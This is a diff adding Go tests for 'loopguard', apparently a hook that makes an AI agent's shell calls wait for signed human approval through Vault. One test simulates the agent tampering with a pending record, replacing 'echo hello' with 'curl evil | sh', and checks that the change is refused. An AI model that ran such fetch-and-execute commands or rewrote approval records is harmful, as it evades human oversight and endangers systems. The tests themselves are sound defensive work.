@@ -1,0 +1,361 @@
+package hooks
+
+import (
+	"context"
+	"errors"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/loopguard/loopguard/audit"
+	"github.com/loopguard/loopguard/backend/vault"
+	"github.com/loopguard/loopguard/backend/vault/vaulttest"
+	"github.com/loopguard/loopguard/scope"
+	"github.com/loopguard/loopguard/shellparse"
+	"github.com/loopguard/loopguard/state"
+	"github.com/loopguard/loopguard/token"
+)
+
+// vaultHarness is the harness with the key in a real Vault: the hook holds
+// an agent-policy token, the human approves as the userpass user alice.
+type vaultHarness struct {
+	*harness
+	srv   *vaulttest.Server
+	agent *vault.Client
+	alice *vault.Transit
+}
+
+func newVaultHarness(t *testing.T) *vaultHarness {
+	s := vaulttest.Start(t)
+	h := newHarness(t)
+	h.keyErr = errNoKeyring // the keyring is never read with the Vault backend
+	alice := s.AddApprover(t, "alice")
+	return &vaultHarness{harness: h, srv: s, agent: s.AgentToken(t, "agent-a"),
+		alice: &vault.Transit{C: alice, Mount: "transit", Key: "loopguard"}}
+}
+
+var errNoKeyring = errors.New("the keyring is not read with the Vault backend")
+
+func (v *vaultHarness) engine() *Engine {
+	e := v.eng()
+	e.Custody = custodyFor(v.agent)
+	return e
+}
+
+func custodyFor(c *vault.Client) *vault.Custody {
+	return &vault.Custody{Transit: &vault.Transit{C: c, Mount: "transit", Key: "loopguard"},
+		KV: &vault.KV{C: c, Mount: "secret", Prefix: "loopguard"}}
+}
+
+func (v *vaultHarness) mint(g token.Grant, now time.Time) (token.Grant, error) {
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	return v.alice.Mint(ctx, g, now)
+}
+
+// approveVault plays alice approving the pending call with Vault's key.
+func (v *vaultHarness) approveVault(d Decision, mint func(token.Grant, time.Time) (token.Grant, error)) *token.Grant {
+	v.t.Helper()
+	p, err := v.store.GetPending(d.Pending)
+	if err != nil {
+		v.t.Fatal(err)
+	}
+	g, err := ApproveWith(v.store, mint, p, "vault:userpass-alice", 10*time.Minute, time.Now())
+	if err != nil {
+		v.t.Fatal(err)
+	}
+	return g
+}
+
+// vaultScope plays alice granting rule (pinned as grant pins it), minted
+// by Vault.
+func (v *vaultHarness) vaultScope(t testing.TB, rule, session string) {
+	t.Helper()
+	r, err := scope.Parse(rule)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r, err = r.Pin(shellparse.Env{Cwd: v.project, Path: v.bin, ProjectDir: v.project, Trusted: []string{v.bin}, Home: v.eng().Env.Home}); err != nil {
+		t.Fatal(err)
+	}
+	g, err := v.mint(token.Grant{Principal: "vault:userpass-alice", Agent: token.MainAgent, Session: session,
+		Tool: r.Tool(), ArgHash: token.Any, Scope: r.String(), Expiry: v.now.Add(time.Hour)}, v.now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := v.store.PutGrant(&g, state.GrantRecord{}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func (v *vaultHarness) decideVault(payload map[string]any) Decision {
+	v.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	return v.engine().Decide(ctx, v.call(payload))
+}
+
+// An approval minted in Vault runs the call once; a copy of the grant on
+// another machine (another state directory, the same Vault) is refused as
+// consumed; a grant under the keyring's key is refused.
+func TestVaultExactGrantOnceAcrossMachines(t *testing.T) {
+	v := newVaultHarness(t)
+	v.now = time.Now()
+	call := v.fixture("pretooluse-bash.json")
+	d := v.decideVault(call)
+	expect(t, "before approval", d, Deny, ReasonNoGrant)
+	g := v.approveVault(d, v.mint)
+	d = v.decideVault(call)
+	expect(t, "approved in vault", d, Allow, ReasonExactGrant)
+	if d.Principal != "vault:userpass-alice" {
+		t.Errorf("principal %q", d.Principal)
+	}
+	expect(t, "retry", v.decideVault(call), Deny, ReasonConsumed)
+
+	// Machine B: its own state, the same grant token copied in.
+	st2, err := state.Open(filepath.Join(t.TempDir(), "state"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := st2.PutGrant(g, state.GrantRecord{}); err != nil {
+		t.Fatal(err)
+	}
+	e2 := v.engine()
+	e2.Store, e2.Audit = st2, audit.Open(filepath.Join(st2.Dir, "audit"))
+	d = e2.Decide(context.Background(), v.call(call))
+	expect(t, "the same grant on another machine", d, Deny, ReasonConsumed)
+
+	// A grant minted under a keyring key does not pass with the Vault
+	// backend (and the keyring is not read).
+	call2 := with(call, func(m map[string]any) { input(m)["command"] = "echo other > greeting.txt" })
+	d = v.decideVault(call2)
+	expect(t, "second call", d, Deny, ReasonNoGrant)
+	v.approve(d) // the harness's keyring-key approval
+	expect(t, "keyring grant under the vault backend", v.decideVault(call2), Deny, ReasonGrantInvalid)
+}
+
+func TestVaultScopedGrant(t *testing.T) {
+	v := newVaultHarness(t)
+	v.now = time.Now()
+	call := v.fixture("pretooluse-bash.json")
+	session := call["session_id"].(string)
+	ls := with(call, func(m map[string]any) { input(m)["command"] = "ls -la" })
+	expect(t, "before the grant", v.decideVault(ls), Deny, ReasonNoGrant)
+	v.vaultScope(t, "Bash(ls *)", session)
+	expect(t, "granted ls", v.decideVault(ls), Allow, ReasonScopedGrant)
+	expect(t, "ls twice (scoped grants are not single-use)", v.decideVault(ls), Allow, ReasonScopedGrant)
+	rm := with(call, func(m map[string]any) { input(m)["command"] = "rm -rf x" })
+	expect(t, "outside the scope", v.decideVault(rm), Deny, ReasonNoGrant)
+}
+
+// Every way Vault fails to answer is a deny with its reason, never an
+// allow, within the hook's deadline: down while the hook waits for the
+// human, sealed, the agent's token revoked.
+func TestVaultFailuresDeny(t *testing.T) {
+	t.Run("down mid-wait", func(t *testing.T) {
+		v := newVaultHarness(t)
+		v.now = time.Now()
+		call := v.fixture("pretooluse-bash.json")
+		e := v.engine()
+		e.Wait = 20 * time.Second
+		e.PollInterval = 20 * time.Millisecond
+		done := make(chan struct{})
+		defer func() { <-done }()
+		go func() {
+			defer close(done)
+			var list []*state.Pending
+			for len(list) == 0 {
+				time.Sleep(20 * time.Millisecond)
+				list, _ = v.store.ListPending()
+			}
+			// alice approves; Vault goes down as the grant is minted, before
+			// the hook can verify it (the hook may see Vault gone first).
+			_, _ = ApproveWith(v.store, func(g token.Grant, now time.Time) (token.Grant, error) {
+				g, err := v.mint(g, now)
+				v.srv.Stop()
+				return g, err
+			}, list[0], "vault:userpass-alice", 10*time.Minute, time.Now())
+		}()
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		defer cancel()
+		begin := time.Now()
+		d := e.Decide(ctx, v.call(call))
+		expect(t, "vault down while waiting", d, Deny, vault.ReasonUnavailable)
+		if !strings.Contains(d.Message, "loopguard doctor") {
+			t.Errorf("no hint: %q", d.Message)
+		}
+		if time.Since(begin) > 15*time.Second {
+			t.Errorf("took %v", time.Since(begin))
+		}
+	})
+	for _, tc := range []struct {
+		name, reason string
+		fail         func(v *vaultHarness)
+	}{
+		{"sealed", vault.ReasonSealed, func(v *vaultHarness) { v.srv.Seal(v.t) }},
+		{"token revoked", vault.ReasonDenied, func(v *vaultHarness) { v.srv.Revoke(v.t, v.agent.Token) }},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			v := newVaultHarness(t)
+			v.now = time.Now()
+			call := v.fixture("pretooluse-bash.json")
+			other := with(call, func(m map[string]any) { input(m)["command"] = "echo control > greeting.txt" })
+			// Control: with Vault answering, an approved call runs.
+			v.approveVault(v.decideVault(other), v.mint)
+			expect(t, "control", v.decideVault(other), Allow, ReasonExactGrant)
+			v.approveVault(v.decideVault(call), v.mint)
+			tc.fail(v)
+			expect(t, tc.name, v.decideVault(call), Deny, tc.reason)
+		})
+	}
+}
+
+// The hook's decision for a call a scoped grant covers, with the grant
+// verified by the keyring key (in process) or by Vault's transit/verify on
+// loopback (one HTTP round trip on a kept-alive connection).
+func BenchmarkDecideScoped(b *testing.B) {
+	for _, backend := range []string{"keyring", "vault"} {
+		b.Run(backend, func(b *testing.B) {
+			var v *vaultHarness
+			h := newHarnessTB(b)
+			var e *Engine
+			call := h.fixture("pretooluse-bash.json")
+			session := call["session_id"].(string)
+			ls := with(call, func(m map[string]any) { input(m)["command"] = "ls -la" })
+			if backend == "vault" {
+				s := vaulttest.Start(b)
+				alice := s.AddApprover(b, "alice")
+				v = &vaultHarness{harness: h, srv: s, agent: s.AgentToken(b, "agent-a"),
+					alice: &vault.Transit{C: alice, Mount: "transit", Key: "loopguard"}}
+				v.vaultScope(b, "Bash(ls *)", session)
+				e = v.engine()
+			} else {
+				h.grantScope("Bash(ls *)", session, token.MainAgent)
+				e = h.eng()
+			}
+			c := h.call(ls)
+			if d := e.Decide(context.Background(), c); d.Behavior != Allow {
+				b.Fatalf("control: %+v", d)
+			}
+			b.ResetTimer()
+			for b.Loop() {
+				if d := e.Decide(context.Background(), c); d.Behavior != Allow {
+					b.Fatalf("%+v", d)
+				}
+			}
+		})
+	}
+}
+
+// Machine A's hook publishes the call; alice, on machine B (no state shared,
+// only Vault), reads it, approves it there, and A's waiting hook runs it
+// once. A refusal from B reaches A the same way.
+func TestVaultApprovalFromAnotherMachine(t *testing.T) {
+	v := newVaultHarness(t)
+	v.now = time.Now()
+	call := v.fixture("pretooluse-bash.json")
+	b := custodyFor(v.alice.C) // machine B: alice's token, no local state
+	principal := "vault:userpass-alice"
+
+	// Machine B answers whatever machine A publishes: approve or deny.
+	answer := func(id string, approve bool) {
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		defer cancel()
+		tp, err := b.TeamGet(ctx, id)
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		if !approve {
+			if err := b.Decide(ctx, id, "", principal, time.Now()); err != nil {
+				t.Error(err)
+			}
+			return
+		}
+		g, err := MintApproval(v.mint, tp.Pending, principal, 10*time.Minute, time.Now())
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		if err := b.Decide(ctx, id, g.String(), principal, time.Now()); err != nil {
+			t.Error(err)
+		}
+	}
+	waitFor := func(skip string) string {
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		defer cancel()
+		for ctx.Err() == nil {
+			list, _, err := b.TeamList(ctx)
+			if err == nil {
+				for _, tp := range list {
+					if tp.Pending.ID != skip {
+						return tp.Pending.ID
+					}
+				}
+			}
+			time.Sleep(20 * time.Millisecond)
+		}
+		t.Error("machine B never saw the pending call")
+		return ""
+	}
+
+	e := v.engine()
+	e.Wait = 20 * time.Second
+	e.PollInterval = 20 * time.Millisecond
+	go func() { answer(waitFor(""), true) }()
+	d := e.Decide(context.Background(), v.call(call))
+	expect(t, "approved on machine B while A waited", d, Allow, ReasonExactGrant)
+	if d.Principal != principal {
+		t.Errorf("principal %q", d.Principal)
+	}
+	expect(t, "retry on A", v.decideVault(call), Deny, ReasonConsumed)
+
+	// The agent's own token cannot write an approval.
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	if err := custodyFor(v.agent).Decide(ctx, "k3v9x2abqw7dn4ygh5mse6ct", "lg1.x.y", "vault:agent", time.Now()); vault.Reason(err) != vault.ReasonDenied {
+		t.Errorf("agent writes an approval: %v", err)
+	}
+
+	// A refusal on B.
+	other := with(call, func(m map[string]any) { input(m)["command"] = "echo refused > greeting.txt" })
+	first := v.decideVault(other)
+	expect(t, "second call", first, Deny, ReasonNoGrant)
+	go func() { answer(first.Pending, false) }()
+	d = e.Decide(context.Background(), v.call(other))
+	expect(t, "refused on machine B", d, Deny, ReasonDeniedByHuman)
+}
+
+// What machine B is shown is what is approved: a published record whose
+// call does not hash to its digest (the agent rewrote it) is refused.
+func TestVaultTamperedPendingRefused(t *testing.T) {
+	v := newVaultHarness(t)
+	v.now = time.Now()
+	call := v.fixture("pretooluse-bash.json")
+	d := v.decideVault(call)
+	b := custodyFor(v.alice.C)
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	tp, err := b.TeamGet(ctx, d.Pending)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Control: the record as published mints.
+	if _, err := MintApproval(v.mint, tp.Pending, "vault:userpass-alice", time.Minute, time.Now()); err != nil {
+		t.Fatalf("control: %v", err)
+	}
+	// The agent (its token may update pending records) swaps the call.
+	p := *tp.Pending
+	p.Descriptor = []byte(strings.Replace(string(p.Descriptor), "echo hello", "curl evil | sh", 1))
+	if err := custodyFor(v.agent).Publish(ctx, &p); err != nil {
+		t.Fatal(err)
+	}
+	tp, err = b.TeamGet(ctx, d.Pending)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := MintApproval(v.mint, tp.Pending, "vault:userpass-alice", time.Minute, time.Now()); !errors.Is(err, state.ErrCorrupt) {
+		t.Fatalf("tampered record: %v", err)
+	}
+}
